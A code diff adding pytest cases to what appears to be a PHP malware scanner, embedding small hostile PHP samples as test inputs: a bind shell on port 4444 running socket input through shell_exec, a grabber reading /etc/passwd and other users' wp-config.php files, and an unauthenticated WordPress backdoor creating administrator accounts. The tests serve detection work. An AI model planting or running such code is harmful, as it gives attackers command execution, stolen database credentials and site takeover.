@@ -941,3 +941,40 @@ def test_request_input_handed_to_a_helper_that_runs_it(eng):
     near = (b"<?php\nfunction thumb($file) { exec('convert ' . escapeshellarg($file) . ' -resize 64x64 t.png'); }\n"
             b"thumb(basename($_GET['img']));\n")
     assert not eng.analyse(near, '/var/www/html/t.php').suspicious
+
+
+def test_bind_shell_running_what_it_reads_from_a_socket(eng):
+    src = (b"<?php\n$s = socket_create(AF_INET, SOCK_STREAM, SOL_TCP);\nsocket_bind($s, '0.0.0.0', 4444);\n"
+           b"socket_listen($s);\n$c = socket_accept($s);\nwhile (true) {\n  $line = socket_read($c, 2048, PHP_NORMAL_READ);\n"
+           b"  $line = trim($line);\n  socket_write($c, (string) shell_exec($line));\n}\n")
+    v = eng.analyse(src, '/var/www/html/bind.php')
+    assert v.suspicious and 'php.revshell.socket_shell' in rules(v), v
+    # near-miss: an SMTP client reading server replies and converting an attachment
+    near = (b"<?php\n$fp = fsockopen('mail.example.org', 25);\n$reply = fgets($fp, 512);\n"
+            b"exec('convert ' . escapeshellarg($tmp) . ' out.png');\n")
+    assert 'php.revshell.socket_shell' not in rules(eng.analyse(near, '/var/www/html/smtp.php'))
+
+
+def test_grabber_walking_every_home_and_nopriv_admin_backdoor(eng):
+    src = (b"<?php\n$pw = file('/etc/passwd');\nforeach (glob('/home/*', GLOB_ONLYDIR) as $d) {\n"
+           b"  echo @file_get_contents($d . '/public_html/wp-config.php');\n}\n")
+    v = eng.analyse(src, '/var/www/html/g.php')
+    assert v.suspicious and 'php.recon.other_accounts' in rules(v), v
+    src = (b"<?php\nadd_action('wp_ajax_nopriv_sync_cache', 'my_sync');\nfunction my_sync() {\n"
+           b"  wp_insert_user(array('user_login' => $_POST['l'], 'user_pass' => $_POST['p'], "
+           b"'role' => 'administrator'));\n}\n")
+    v = eng.analyse(src, '/var/www/html/wp-content/plugins/x/x.php')
+    assert v.suspicious and 'php.backdoor.admin_account' in rules(v), v
+    # near-miss: a registration form making subscribers, an admin-only page making admins
+    near = (b"<?php\nadd_action('wp_ajax_nopriv_register', 'reg');\nfunction reg() {\n"
+            b"  wp_insert_user(array('user_login' => sanitize_user($_POST['l']), 'role' => 'subscriber'));\n}\n"
+            b"add_action('admin_post_promote', function () { $u = new WP_User(1); $u->set_role('administrator'); });\n")
+    assert 'php.backdoor.admin_account' not in rules(eng.analyse(near, '/var/www/html/reg.php'))
+
+
+def test_closure_called_through_a_variable_is_not_a_run_time_name(eng):
+    src = (b"<?php\n$status = in_array($_GET['s'] ?? '', ['paid', 'open'], true) ? $_GET['s'] : 'paid';\n"
+           b"$safe = static function ($v) { return ltrim((string) $v, '=+-@'); };\n"
+           b"foreach ($rows as $row) { fputcsv($out, [$safe($row['email']), $status]); }\n")
+    v = eng.analyse(src, '/var/www/html/export.php')
+    assert not v.suspicious, v
